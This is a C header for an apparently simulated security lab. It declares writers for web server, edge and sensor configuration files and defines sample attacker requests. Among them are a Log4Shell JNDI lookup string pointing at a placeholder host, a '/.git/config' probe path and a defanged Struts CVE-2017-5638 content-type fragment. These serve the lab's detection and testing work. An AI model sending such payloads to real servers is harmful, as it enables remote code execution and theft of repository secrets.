// SPDX-License-Identifier: Apache-2.0
/* The files of a run: pages and configuration of the web servers, configuration and block list of the edges, rules and
 * configuration of their sensors. */
#pragma once

#include "base/compiler.h"
#include "lab/topology.h"

/* What attackers ask for (nation.c), and the sensors' rules know: by the browser's name, which no browser has; a path. The
 * requests do no harm to the sites. */
#define LAB_EXPLOIT_AGENT "${jndi:ldap://lab.invalid/a}"
#define LAB_SCAN_PATH     "/.git/config"
#define LAB_LOGIN_PATH    "/dang-nhap"

/* And what a scanner finds at one of them: known to the gate's rules alone, held only where the hub says so. */
#define LAB_HOLE_CVE  "CVE-2017-5638"
#define LAB_HOLE_TYPE "%{(#lab='multipart/form-data').(#x=1)}"

/* Writes all of them below the run's folder: PLACE/nginx.conf for each web server, www/SITE for each site, luytre.yaml and
 * edge2.yaml, sensor1.yaml and sensor2.yaml, lab.rules, blocked.txt. 0 or LUYTRE_E_IO, logged. */
MUST_CHECK int sites_write(const struct topology *topology);

/* Writes a text file. 0 or LUYTRE_E_IO, logged. */
PRINTF_LIKE(2, 3) MUST_CHECK int sites_write_file(const char *path, const char *format, ...);
